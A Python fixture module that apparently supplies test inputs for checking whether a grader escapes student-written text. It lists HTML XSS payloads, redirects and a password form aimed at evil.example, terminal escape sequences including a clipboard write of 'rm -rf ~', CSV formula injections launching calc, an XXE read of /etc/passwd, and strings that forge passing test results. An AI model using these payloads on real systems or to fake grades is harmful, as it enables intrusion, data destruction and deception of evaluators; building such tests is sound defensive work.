"""Texts that a student puts where others will read them: as returned value, message, exception's name, line of code, note, name, file
name. `medium` says where the text does harm if it is passed on as it is."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

Medium = Literal["html", "terminal", "csv", "xml"]


@dataclass(frozen=True)
class PageAttack:
    """One text and the medium that obeys it."""

    name: str
    medium: Medium
    text: str


PAGES = [
    PageAttack("script", "html", "<script>alert(666)</script>"),
    PageAttack("end of the page's own script", "html", "</script><script>alert(666)//"),
    PageAttack("image with a handler", "html", "<img src=x onerror=alert(666)>"),
    PageAttack("out of an attribute", "html", '" onmouseover="alert(666)" x="'),
    PageAttack("out of an attribute in single quotes", "html", "' onfocus='alert(666)' autofocus x='"),
    PageAttack("drawing with a handler", "html", "</text></svg><svg onload=alert(666)>"),
    PageAttack("frame", "html", '<iframe src="javascript:alert(666)"></iframe>'),
    PageAttack("link that runs", "html", '<a href="javascript:alert(666)">next</a>'),
    PageAttack("form that asks for a password", "html", '<form action="//evil.example"><input name=p></form>'),
    PageAttack("style that hides the page", "html", "</style><style>*{display:none}/*666*/</style>"),
    PageAttack("refresh to another page", "html", '<meta http-equiv=refresh content="0;url=//evil.example">'),
    PageAttack("base of all links", "html", '<base href="//evil.example/">'),
    PageAttack("end of a comment", "html", "--><script>alert(666)</script><!--"),
    PageAttack("template of the page", "html", "{{ 7 * 191 }}{% set x = 666 %}"),
    PageAttack("window title", "terminal", "\x1b]0;owned\x07"),
    PageAttack("screen cleared", "terminal", "\x1b[2J\x1b[H20/20"),
    PageAttack("colours", "terminal", "\x1b[32m passed\x1b[0m"),
    PageAttack("clipboard", "terminal", "\x1b]52;c;cm0gLXJmIH4=\x07"),
    PageAttack("eight-bit orders", "terminal", "\x9b2J\x9d0;owned\x9c"),
    PageAttack("line written over", "terminal", "failed\rpassed"),
    PageAttack("erased by backspace", "terminal", "failed" + "\b" * 6 + "passed"),
    PageAttack("text turned round", "terminal", "\u202e02/02 \u2066dessap"),
    PageAttack("markup of the terminal's library", "terminal", "[green]20/20[/green][/nope]"),
    PageAttack("bells", "terminal", "\x07" * 50),
    PageAttack("formula", "csv", '=HYPERLINK("http://evil.example","x")'),
    PageAttack("formula behind a plus", "csv", "+cmd|' /C calc'!A0"),
    PageAttack("formula behind an at", "csv", "@SUM(1+1)"),
    PageAttack("formula behind a minus", "csv", "-2+3+cmd|' /C calc'!A0"),
    PageAttack("formula behind a tab", "csv", "\t=1+1"),
    PageAttack("row of one's own", "csv", 'x"\r\n"mallory","mallory","polysemy","20","20","graded'),
    PageAttack("column of one's own", "csv", "x,20,20"),
    PageAttack("entity that reads a file", "xml", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'),
    PageAttack("end of a failure", "xml", '"/></failure></testcase><testcase name="20 of 20"/>'),
    PageAttack("characters that XML has not", "xml", "\x00\x0c\ufffe\ud800"),
]
